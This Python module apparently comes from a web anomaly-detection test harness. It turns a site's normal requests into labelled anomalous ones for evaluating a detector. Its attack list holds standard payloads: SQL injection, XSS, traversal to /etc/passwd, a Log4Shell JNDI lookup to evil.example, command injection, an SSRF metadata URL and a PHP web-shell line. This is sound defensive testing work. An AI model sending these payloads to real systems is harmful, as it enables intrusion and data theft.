"""Anomalous requests made from normal ones, one class at a time, for measuring a site
profile honestly: this module knows nothing of how requests are scored.

Each mutation takes a normal request of the site and changes one thing the way anomalous
traffic against a web application does: a parameter name the application never uses (a
fuzzer's ``pwdA``, ``modoA``), a value of the wrong shape (``id=1+``, three ``@`` in an
e-mail), an extension appended to a script (``carrito.jsp.java``, ``.jsp.INC``), a path the
site does not have (a ``.jsp`` under the image directory, another product's admin page), an
over-long value, encoded junk (NULs, overlong UTF-8, double encoding), or an ordinary attack
payload.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import replace
from urllib.parse import quote

from vigil.simulate.scenarios import ScenarioRequest

__all__ = ["MUTATIONS", "mutate"]

_SUFFIXES = ("A", "B", "1", "_", "x", "2", "Z")
_NEW_NAMES = (
    "debug", "admin", "cmd", "exec", "test", "redirect", "callback", "file", "path", "lang2",
    "modoA", "pwdA", "userid", "sessionid", "token2", "role", "isAdmin", "q2", "id_", "ref2",
)  # fmt: skip
_APPENDED = (
    ".java", ".INC", "~", ".old", ".bak", ".BAK", ".orig", ".swp", ".sav", ".copy", ".tmp",
    ".inc", ".src", ".txt", ".zip", ".1",
)  # fmt: skip
_FOREIGN = (
    "/admin/config.php", "/tienda/imagenes/{word}.jsp", "/tienda/publico/{word}.jsp",
    "/tienda/miembros/{word}.jsp", "/api/v1/{word}", "/api/v1/internal/{word}",
    "/tienda/{word}/index.jsp", "/static/js/{word}.php", "/images/products/{word}.jsp",
    "/tienda/global/{word}.asp", "/cgi-bin/{word}.cgi", "/blog/{word}/{word}.php",
    "/tienda/imagenes/{word}.exe", "/help/{word}.jsp", "/download/{word}.sh",
)  # fmt: skip
_WORDS = (
    "config", "backup", "shell", "upload", "test", "debug", "console", "setup", "install",
    "admin", "db", "dump", "info", "status", "server", "login2", "panel", "manager",
)  # fmt: skip
_JUNK = (
    "%00", "%C0%AE%C0%AE", "%252e%252e%252f", "%u0027", "%FF%FE", "%0d%0a", "%E0%80%AF",
    "%25%32%37", "%1b%5b", "%c1%9c", "%%", "%7f",
)  # fmt: skip
_ATTACKS = (
    "' OR '1'='1", "1 UNION SELECT username,password FROM users--", "<script>alert(1)</script>",
    "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "; cat /etc/passwd",
    "\"><img src=x onerror=alert(1)>", "1' AND SLEEP(5)--", "{{7*7}}",
    "http://169.254.169.254/latest/meta-data/", "<?php system($_GET['c']); ?>",
)  # fmt: skip


def _args(query: str) -> list[tuple[str, str]]:
    return [
        (name, value)
        for name, _, value in (part.partition("=") for part in query.split("&") if part)
    ]


def _join(args: list[tuple[str, str]]) -> str:
    return "&".join(f"{name}={value}" for name, value in args)


def _unknown_param(req: ScenarioRequest, rng: random.Random) -> ScenarioRequest:
    args = _args(req.query)
    if args and rng.random() < 0.6:
        i = rng.randrange(len(args))
        name, value = args[i]
        args[i] = (name + rng.choice(_SUFFIXES), value)
    else:
        args.insert(rng.randrange(len(args) + 1), (rng.choice(_NEW_NAMES), str(rng.randrange(100))))
    return replace(req, query=_join(args))


def _wrong_type(req: ScenarioRequest, rng: random.Random) -> ScenarioRequest | None:
    args = _args(req.query)
    if not args:
        return None
    i = rng.randrange(len(args))
    name, value = args[i]
    if value.isdigit():
        value = rng.choice(
            (value + "+", value + "A", value[:-1] + "O", f"{value}.5.5", "-" + value + "'",
             value + "%2F", "0x" + value, value + "e9")
        )  # fmt: skip
    elif "%40" in value or "@" in value:
        value = rng.choice((value.replace("%40", "@@") + "@x", value + "%40%40", "no-at-all"))
    else:
        value = rng.choice(
            (value + "'", value + "%3B", "(" + value + ")", value + "%3C", value + "%22",
             value + "%7C", value + "*", value + "%5C")
        )  # fmt: skip
    args[i] = (name, value)
    return replace(req, query=_join(args))


def _appended_extension(req: ScenarioRequest, rng: random.Random) -> ScenarioRequest | None:
    last = req.path.rsplit("/", 1)[-1]
    if "." not in last:
        return None
    return replace(
        req, path=req.path + rng.choice(_APPENDED), query="", status=rng.choice((200, 404))
    )


def _foreign_path(req: ScenarioRequest, rng: random.Random) -> ScenarioRequest:
    path = rng.choice(_FOREIGN).replace("{word}", rng.choice(_WORDS))
    return replace(req, method="GET", path=path, query="", status=200)


def _overlong(req: ScenarioRequest, rng: random.Random) -> ScenarioRequest | None:
    args = _args(req.query)
    if not args:
        return None
    i = rng.randrange(len(args))
    name, value = args[i]
    filler = rng.choice(("A", "x", "9", "%41", "ab"))
    args[i] = (name, value + filler * rng.randrange(200, 2000))
    return replace(req, query=_join(args))


def _encoded_junk(req: ScenarioRequest, rng: random.Random) -> ScenarioRequest | None:
    args = _args(req.query)
    if not args:
        return None
    i = rng.randrange(len(args))
    name, value = args[i]
    junk = "".join(rng.choice(_JUNK) for _ in range(rng.randrange(1, 4)))
    args[i] = (name, rng.choice((junk + value, value + junk, value[:2] + junk + value[2:])))
    return replace(req, query=_join(args))


def _attack(req: ScenarioRequest, rng: random.Random) -> ScenarioRequest | None:
    args = _args(req.query)
    if not args:
        return None
    i = rng.randrange(len(args))
    args[i] = (args[i][0], quote(rng.choice(_ATTACKS), safe=""))
    return replace(req, query=_join(args))


MUTATIONS: dict[str, Callable[[ScenarioRequest, random.Random], ScenarioRequest | None]] = {
    "unknown-param": _unknown_param,
    "wrong-type": _wrong_type,
    "appended-extension": _appended_extension,
    "foreign-path": _foreign_path,
    "overlong-value": _overlong,
    "encoded-junk": _encoded_junk,
    "attack": _attack,
}
"""Mutation class → function; a function returns None when the request has nothing to change
(no arguments, no extension)."""


def mutate(
    normal: list[ScenarioRequest], per_class: int, seed: int
) -> list[tuple[str, ScenarioRequest]]:
    """`per_class` anomalous requests of every class, each made from a random normal request
    of `normal` (only requests the site answered 2xx/3xx are mutated)."""
    rng = random.Random(seed)
    answered = [r for r in normal if r.status < 400]
    out: list[tuple[str, ScenarioRequest]] = []
    for name, mutation in MUTATIONS.items():
        made = 0
        tries = 0
        while made < per_class and tries < per_class * 200:
            tries += 1
            mutated = mutation(rng.choice(answered), rng)
            if mutated is None:
                continue
            out.append((name, replace(mutated, label=name)))
            made += 1
    return out
